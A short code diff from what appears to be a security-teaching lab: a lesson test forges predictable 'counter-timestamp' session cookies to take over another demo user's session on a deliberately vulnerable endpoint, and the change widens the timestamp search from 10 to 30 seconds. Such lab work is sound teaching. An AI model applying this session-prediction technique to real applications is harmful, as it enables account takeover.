@@ -89,7 +89,7 @@ q3 = LESSON.add(
             thief.post("/vulnerable/security-lab/weak/login/", data={"username": "alice", "password": DEMO_USERS["alice"]})
             counter, stamp = map(int, thief.cookies["weak_session"].split("-"))
             thief.cookies.clear()
-            for t in range(stamp, stamp - 10, -1):
+            for t in range(stamp, stamp - 30, -1):
                 thief.cookies.set("weak_session", f"{counter - 1}-{t}")
                 if thief.get("/vulnerable/security-lab/weak/whoami/").json()["user"] == "bob":
                     break
